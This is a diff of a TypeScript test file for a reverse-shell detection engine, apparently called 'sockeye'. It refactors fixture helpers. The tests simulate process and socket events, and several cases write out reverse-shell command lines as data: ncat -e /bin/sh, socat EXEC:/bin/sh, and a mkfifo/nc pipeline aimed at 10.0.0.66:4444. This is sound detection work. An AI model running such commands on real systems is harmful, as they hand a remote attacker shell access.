@@ -5,37 +5,13 @@
  */
 import { describe, expect, it } from "vitest";
 import {
-  Engine, ProcessTable, createRelay001Rule, createTrc101Rule, type EngineLogger, type ExistingTcpSocket, type Finding, type Holding,
-  type OutboundEvent, type SensorEvent, type StdioFd, type TaskContext,
-} from "sockeye";
-import { BASE_TIME_MS, dup, exec, exit, fork } from "../engine/fixtures.js";
+  Engine, ProcessTable, createRelay001Rule, createTrc101Rule, type ExistingTcpSocket, type Finding, type Holding,
+  type SensorEvent, } from "sockeye";
+import { LOCAL_END as LOCAL, at, connectedOut, dup, exit, fifo, holds, pipe, proc, silentLogger, start, tty, unix } from "../engine/fixtures.js";
 import { fakeHost } from "../host/fake-host.js";
 
-const silentLogger: EngineLogger = { warn: () => {} };
 const REMOTE = { address: "10.0.0.66", port: 4444 };
-const LOCAL = { address: "10.0.0.5", port: 51234 };
 const SOCK = 9001;
-const at = (ms: number) => BASE_TIME_MS + ms;
-
-const proc = (pid: number, ppid: number, comm: string): Partial<TaskContext> => ({ pid, tid: pid, ppid, comm, startNs: pid * 1_000 });
-const pipe = (ino: number): StdioFd => ({ kind: "pipe", ino, dev: 15 });
-const fifo = (ino: number): StdioFd => ({ kind: "fifo", ino, dev: (254 << 20) | 1 });
-const unix = (ino: number, peerIno: number): StdioFd => ({ kind: "unix", ino, socketType: "stream", peerIno });
-const tty = (index: number): StdioFd => ({ kind: "tty", ino: 3, ttyIndex: index, controlling: true });
-
-const h = (fd: number, key: string, access: Holding["access"] = "both"): Holding => ({ fd, key, access });
-
-function outbound(p: Partial<TaskContext>, ino: number, ms: number, remote = REMOTE): OutboundEvent {
-  const t = { pid: 0, tid: 0, ppid: 0, uid: 0, gid: 0, cgroupId: 1, startNs: 0, comm: "", parentComm: "", ...p };
-  return {
-    kind: "outbound", timeMs: at(ms), timeNs: ms * 1e6 + 1e12, task: t, fd: 3, result: 0, socketIno: ino, family: "inet",
-    local: { ...LOCAL }, remote: { ...remote },
-  };
-}
-
-function start(p: Partial<TaskContext>, filename: string, args: string[], stdio: [StdioFd, StdioFd, StdioFd], ms: number): SensorEvent[] {
-  return [fork({ task: p, timeMs: at(ms) }), exec({ task: p, filename, args, stdio, timeMs: at(ms) })];
-}
 
 /** A step is an event, or a change to what processes hold (their /proc/<pid>/fd). */
 type Step = SensorEvent | { holds: Record<number, Holding[]> };
@@ -72,8 +48,8 @@ const relays: Case[] = [
     steps: [
       ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
       ...start(relay, "/usr/bin/ncat", ["ncat", "10.0.0.66", "4444", "-e", "/bin/sh"], [tty(1), tty(1), tty(1)], 1),
-      outbound(relay, SOCK, 2),
-      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write"), h(2, "pts:1")] } },
+      connectedOut(relay, SOCK, 2),
+      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write"), holds(2, "pts:1")] } },
       ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
     ],
     relay: { program: "ncat", fds: [0, 1], input: 1, output: 1 },
@@ -82,8 +58,8 @@ const relays: Case[] = [
     name: "socat EXEC:/bin/sh: a socketpair, the peer held with the socket",
     steps: [
       ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "EXEC:/bin/sh"], [tty(1), tty(1), tty(1)], 1),
-      outbound(relay, SOCK, 2),
-      { holds: { 200: [h(5, `sock:${SOCK}`), h(6, "sock:22")], 201: [h(0, "sock:21"), h(1, "sock:21"), h(2, "pts:1")] } },
+      connectedOut(relay, SOCK, 2),
+      { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "sock:22")], 201: [holds(0, "sock:21"), holds(1, "sock:21"), holds(2, "pts:1")] } },
       ...start(shell, "/bin/sh", ["sh"], [unix(21, 22), unix(21, 22), tty(1)], 3),
     ],
     relay: { program: "socat", fds: [0, 1], input: 1, output: 1 },
@@ -92,8 +68,8 @@ const relays: Case[] = [
     name: "socat EXEC:'bash -li',pty: the pty master (tty-index) held with the socket",
     steps: [
       ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "EXEC:bash -li,pty"], [tty(1), tty(1), tty(1)], 1),
-      outbound(relay, SOCK, 2),
-      { holds: { 200: [h(5, `sock:${SOCK}`), h(6, "ptm:7")], 201: [h(0, "pts:7"), h(1, "pts:7"), h(2, "pts:7")] } },
+      connectedOut(relay, SOCK, 2),
+      { holds: { 200: [holds(5, `sock:${SOCK}`), holds(6, "ptm:7")], 201: [holds(0, "pts:7"), holds(1, "pts:7"), holds(2, "pts:7")] } },
       ...start(shell, "/usr/bin/bash", ["bash", "-li"], [tty(7), tty(7), tty(7)], 3),
     ],
     relay: { program: "socat", fds: [0, 1, 2], input: 1, output: 1 },
@@ -102,13 +78,13 @@ const relays: Case[] = [
     name: "mkfifo chain, the nc connecting last: cat F | sh -i 2>&1 | nc H P > F",
     steps: [
       ...start(bash, "/usr/bin/bash", ["bash", "-c", "cat F | sh -i 2>&1 | nc 10.0.0.66 4444 > F"], [tty(1), tty(1), tty(1)], 0),
-      { holds: { 302: [h(0, "pipe:31", "read"), h(1, "pipe:32", "write"), h(2, "pipe:32", "write")] } },
+      { holds: { 302: [holds(0, "pipe:31", "read"), holds(1, "pipe:32", "write"), holds(2, "pipe:32", "write")] } },
       ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(31), pipe(32), pipe(32)], 1),
-      { holds: { 301: [h(0, "pts:1"), h(1, "pipe:31", "write"), h(3, "fifo:254:1:40", "read")] } },
+      { holds: { 301: [holds(0, "pts:1"), holds(1, "pipe:31", "write"), holds(3, "fifo:254:1:40", "read")] } },
       ...start(proc(301, 100, "cat"), "/usr/bin/cat", ["cat", "F"], [tty(1), pipe(31), tty(1)], 2),
       ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [pipe(32), fifo(40), tty(1)], 3),
-      { holds: { 303: [h(0, "pipe:32", "read"), h(1, "fifo:254:1:40", "write"), h(2, "pts:1"), h(3, `sock:${SOCK}`)] } },
-      outbound(proc(303, 100, "nc"), SOCK, 40),
+      { holds: { 303: [holds(0, "pipe:32", "read"), holds(1, "fifo:254:1:40", "write"), holds(2, "pts:1"), holds(3, `sock:${SOCK}`)] } },
+      connectedOut(proc(303, 100, "nc"), SOCK, 40),
     ],
     relay: { program: "nc.traditional", fds: [0, 1, 2], input: 2, output: 1 },
   },
@@ -116,8 +92,8 @@ const relays: Case[] = [
     name: "node child_process.spawn: one socketpair per stdio fd",
     steps: [
       ...start(relay, "/usr/bin/node", ["node", "relay.js"], [tty(1), tty(1), tty(1)], 1),
-      outbound(relay, SOCK, 2),
-      { holds: { 200: [h(17, `sock:${SOCK}`), h(18, "sock:52"), h(19, "sock:54"), h(20, "sock:56")], 201: [h(0, "sock:51"), h(1, "sock:53"), h(2, "sock:55")] } },
+      connectedOut(relay, SOCK, 2),
+      { holds: { 200: [holds(17, `sock:${SOCK}`), holds(18, "sock:52"), holds(19, "sock:54"), holds(20, "sock:56")], 201: [holds(0, "sock:51"), holds(1, "sock:53"), holds(2, "sock:55")] } },
       ...start(shell, "/bin/sh", ["/bin/sh", "-i"], [unix(51, 52), unix(53, 54), unix(55, 56)], 3),
     ],
     relay: { program: "node", fds: [0, 1, 2], input: 1, output: 1 },
@@ -127,10 +103,10 @@ const relays: Case[] = [
     steps: [
       ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
       ...start(proc(301, 100, "telnet"), "/usr/bin/inetutils-telnet", ["telnet", "10.0.0.66", "4444"], [tty(1), pipe(31), tty(1)], 1),
-      outbound(proc(301, 100, "telnet"), SOCK, 2),
+      connectedOut(proc(301, 100, "telnet"), SOCK, 2),
       ...start(proc(303, 100, "telnet"), "/usr/bin/inetutils-telnet", ["telnet", "10.0.0.66", "4445"], [pipe(32), tty(1), tty(1)], 2),
-      outbound(proc(303, 100, "telnet"), SOCK + 1, 2, { address: "10.0.0.66", port: 4445 }),
-      { holds: { 301: [h(1, "pipe:31", "write"), h(3, `sock:${SOCK}`)], 303: [h(0, "pipe:32", "read"), h(3, `sock:${SOCK + 1}`)], 302: [h(0, "pipe:31", "read"), h(1, "pipe:32", "write")] } },
+      connectedOut(proc(303, 100, "telnet"), SOCK + 1, 2, { address: "10.0.0.66", port: 4445 }),
+      { holds: { 301: [holds(1, "pipe:31", "write"), holds(3, `sock:${SOCK}`)], 303: [holds(0, "pipe:32", "read"), holds(3, `sock:${SOCK + 1}`)], 302: [holds(0, "pipe:31", "read"), holds(1, "pipe:32", "write")] } },
       ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
     ],
     relay: { program: "inetutils-telnet", fds: [0, 1], input: 1, output: 1 },
@@ -143,8 +119,8 @@ const notRelays: Case[] = [
     steps: [
       ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
       ...start(proc(301, 100, "curl"), "/usr/bin/curl", ["curl", "-s", "http://x/"], [tty(1), pipe(31), tty(1)], 1),
-      outbound(proc(301, 100, "curl"), SOCK, 2),
-      { holds: { 301: [h(1, "pipe:31", "write"), h(5, `sock:${SOCK}`)], 302: [h(0, "pipe:31", "read"), h(1, "pts:1"), h(2, "pts:1")] } },
+      connectedOut(proc(301, 100, "curl"), SOCK, 2),
+      { holds: { 301: [holds(1, "pipe:31", "write"), holds(5, `sock:${SOCK}`)], 302: [holds(0, "pipe:31", "read"), holds(1, "pts:1"), holds(2, "pts:1")] } },
       ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), tty(1), tty(1)], 3),
     ],
   },
@@ -152,8 +128,8 @@ const notRelays: Case[] = [
     name: "sh -c under a relay-shaped parent: not reading commands from stdin",
     steps: [
       ...start(relay, "/usr/bin/python3", ["python3", "agent.py"], [tty(1), tty(1), tty(1)], 1),
-      outbound(relay, SOCK, 2),
-      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      connectedOut(relay, SOCK, 2),
+      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
       ...start(shell, "/bin/sh", ["sh", "-c", "uptime"], [pipe(11), pipe(12), tty(1)], 3),
     ],
   },
@@ -161,14 +137,14 @@ const notRelays: Case[] = [
     name: "an SSH login: sshd holds the pty master and an accepted connection, no outbound one",
     steps: [
       ...start(proc(400, 1, "sshd-session"), "/usr/lib/openssh/sshd-session", ["sshd-session"], [tty(1), tty(1), tty(1)], 0),
-      { holds: { 400: [h(4, "sock:77"), h(9, "ptm:5")], 401: [h(0, "pts:5"), h(1, "pts:5"), h(2, "pts:5")] } },
+      { holds: { 400: [holds(4, "sock:77"), holds(9, "ptm:5")], 401: [holds(0, "pts:5"), holds(1, "pts:5"), holds(2, "pts:5")] } },
       ...start(proc(401, 400, "bash"), "/usr/bin/bash", ["-bash"], [tty(5), tty(5), tty(5)], 1),
     ],
   },
   {
     name: "tmux: the server holds the pty master and no socket",
     steps: [
-      { holds: { 500: [h(3, "sock:88"), h(7, "ptm:6")], 501: [h(0, "pts:6"), h(1, "pts:6"), h(2, "pts:6")] } },
+      { holds: { 500: [holds(3, "sock:88"), holds(7, "ptm:6")], 501: [holds(0, "pts:6"), holds(1, "pts:6"), holds(2, "pts:6")] } },
       ...start(proc(500, 1, "tmux: server"), "/usr/bin/tmux", ["tmux"], [tty(1), tty(1), tty(1)], 0),
       ...start(proc(501, 500, "bash"), "/usr/bin/bash", ["bash"], [tty(6), tty(6), tty(6)], 1),
     ],
@@ -177,8 +153,8 @@ const notRelays: Case[] = [
     name: "an agent that connected a minute before it spawned the shell: the socket is not the shell's",
     steps: [
       ...start(relay, "/usr/bin/node", ["node", "agent.js"], [tty(1), tty(1), tty(1)], 0),
-      outbound(relay, SOCK, 1),
-      { holds: { 200: [h(17, `sock:${SOCK}`), h(18, "ptm:8")], 201: [h(0, "pts:8"), h(1, "pts:8"), h(2, "pts:8")] } },
+      connectedOut(relay, SOCK, 1),
+      { holds: { 200: [holds(17, `sock:${SOCK}`), holds(18, "ptm:8")], 201: [holds(0, "pts:8"), holds(1, "pts:8"), holds(2, "pts:8")] } },
       ...start(shell, "/usr/bin/bash", ["bash", "-i"], [tty(8), tty(8), tty(8)], 60_000),
     ],
   },
@@ -187,10 +163,10 @@ const notRelays: Case[] = [
     steps: [
       ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
       ...start(proc(301, 100, "nc"), "/usr/bin/nc", ["nc", "h", "1"], [tty(1), pipe(31), tty(1)], 1),
-      outbound(proc(301, 100, "nc"), SOCK, 2),
+      connectedOut(proc(301, 100, "nc"), SOCK, 2),
       ...start(proc(303, 100, "nc"), "/usr/bin/nc", ["nc", "h", "2"], [pipe(32), tty(1), tty(1)], 2),
-      outbound(proc(303, 100, "nc"), SOCK + 1, 2, { address: "10.0.0.77", port: 514 }),
-      { holds: { 301: [h(1, "pipe:31", "write"), h(3, `sock:${SOCK}`)], 303: [h(0, "pipe:32", "read"), h(3, `sock:${SOCK + 1}`)], 302: [h(0, "pipe:31", "read"), h(1, "pipe:32", "write")] } },
+      connectedOut(proc(303, 100, "nc"), SOCK + 1, 2, { address: "10.0.0.77", port: 514 }),
+      { holds: { 301: [holds(1, "pipe:31", "write"), holds(3, `sock:${SOCK}`)], 303: [holds(0, "pipe:32", "read"), holds(3, `sock:${SOCK + 1}`)], 302: [holds(0, "pipe:31", "read"), holds(1, "pipe:32", "write")] } },
       ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
     ],
   },
@@ -198,27 +174,27 @@ const notRelays: Case[] = [
     name: "the relay connects after the window: the pipeline never came together in time",
     steps: [
       ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
-      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
       ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
-      outbound(relay, SOCK, 8000),
+      connectedOut(relay, SOCK, 8000),
     ],
   },
   {
     name: "the shell exits before its relay connects",
     steps: [
       ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
-      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
       ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
       exit({ task: shell, timeMs: at(3) }),
-      outbound(relay, SOCK, 4),
+      connectedOut(relay, SOCK, 4),
     ],
   },
   {
     name: "the far end of the shell's stdin held only for reading: the holder does not feed it",
     steps: [
       ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
-      outbound(relay, SOCK, 2),
-      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "read"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      connectedOut(relay, SOCK, 2),
+      { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "read"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
       ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
     ],
   },
@@ -262,10 +238,10 @@ describe("RELAY-001 and TRC-101: one incident, one finding", () => {
     const py = proc(200, 100, "python3");
     const steps: Step[] = [
       ...start(py, "/usr/bin/python3", ["python3", "-c", "..."], [tty(1), tty(1), tty(1)], 0),
-      outbound(py, SOCK, 1),
+      connectedOut(py, SOCK, 1),
       ...[0, 1, 2].map((fd, i) =>
         dup({ task: py, newfd: fd, oldfd: 3, socketIno: SOCK, socketOnFds: [0, 1, 2].slice(0, i + 1), origin: "connected", local: { ...LOCAL }, remote: { ...REMOTE }, timeMs: at(2 + i) })),
-      { holds: { 200: [h(0, `sock:${SOCK}`), h(1, `sock:${SOCK}`), h(2, `sock:${SOCK}`), h(3, `sock:${SOCK}`), h(4, "ptm:9")], 201: [h(0, "pts:9"), h(1, "pts:9"), h(2, "pts:9")] } },
+      { holds: { 200: [holds(0, `sock:${SOCK}`), holds(1, `sock:${SOCK}`), holds(2, `sock:${SOCK}`), holds(3, `sock:${SOCK}`), holds(4, "ptm:9")], 201: [holds(0, "pts:9"), holds(1, "pts:9"), holds(2, "pts:9")] } },
       ...start(proc(201, 200, "sh"), "/bin/sh", ["sh"], [tty(9), tty(9), tty(9)], 10),
     ];
     const { findings, stats } = run(steps, true);
@@ -278,8 +254,8 @@ describe("RELAY-001 and TRC-101: one incident, one finding", () => {
     const relay2 = proc(210, 100, "ncat"), shell2 = proc(211, 210, "sh");
     steps.push(
       ...start(relay2, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 10),
-      outbound(relay2, SOCK + 1, 11),
-      { holds: { 210: [h(3, `sock:${SOCK + 1}`), h(5, "pipe:61", "write"), h(6, "pipe:62", "read")], 211: [h(0, "pipe:61", "read"), h(1, "pipe:62", "write")] } },
+      connectedOut(relay2, SOCK + 1, 11),
+      { holds: { 210: [holds(3, `sock:${SOCK + 1}`), holds(5, "pipe:61", "write"), holds(6, "pipe:62", "read")], 211: [holds(0, "pipe:61", "read"), holds(1, "pipe:62", "write")] } },
       ...start(shell2, "/bin/sh", ["/bin/sh"], [pipe(61), pipe(62), tty(1)], 12),
     );
     expect(run(steps).findings.map((f) => f.rule.id)).toEqual(["RELAY-001", "RELAY-001"]);
@@ -291,7 +267,7 @@ describe("RELAY-001: sockets that existed as observation began (/proc/net/tcp)",
   /** An ncat connected before the sensor; a bash starts at `first`, the shell at `shellAt`. */
   const steps = (first: number, shellAt: number): Step[] => [
     ...start(proc(90, 1, "bash"), "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], first),
-    { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+    { holds: { 200: [holds(3, `sock:${SOCK}`), holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read")], 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write")] } },
     ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], shellAt),
   ];
   // The ncat is the shell's parent in the process table; the first event starts observation.
@@ -321,15 +297,15 @@ describe("RELAY-001: sockets that existed as observation began (/proc/net/tcp)",
   it("a look cut short by the host's fd budget is counted in the rule's state, never a silent no", () => {
     const steps = (relayHolds: Holding[]): Step[] => [
       ...start(relay, "/usr/bin/ncat", ["ncat", "10.0.0.66", "4444", "-e", "/bin/sh"], [tty(1), tty(1), tty(1)], 1),
-      outbound(relay, SOCK, 2),
-      { holds: { 200: relayHolds, 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write"), h(2, "pts:1")] } },
+      connectedOut(relay, SOCK, 2),
+      { holds: { 200: relayHolds, 201: [holds(0, "pipe:11", "read"), holds(1, "pipe:12", "write"), holds(2, "pts:1")] } },
       ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
     ];
-    const holds = [h(5, "pipe:11", "write"), h(6, "pipe:12", "read"), h(7, `sock:${SOCK}`)];
-    const within = run(steps(holds), false, [], 3);
+    const relayHolds = [holds(5, "pipe:11", "write"), holds(6, "pipe:12", "read"), holds(7, `sock:${SOCK}`)];
+    const within = run(steps(relayHolds), false, [], 3);
     expect(within.findings).toHaveLength(1);
     expect(within.stats.ruleState["RELAY-001"]).toMatchObject({ incomplete: 0 });
-    const cut = run(steps(holds), false, [], 2);
+    const cut = run(steps(relayHolds), false, [], 2);
     expect(cut.findings).toEqual([]);
     expect(cut.stats.ruleState["RELAY-001"]!.incomplete).toBeGreaterThan(0);
   });
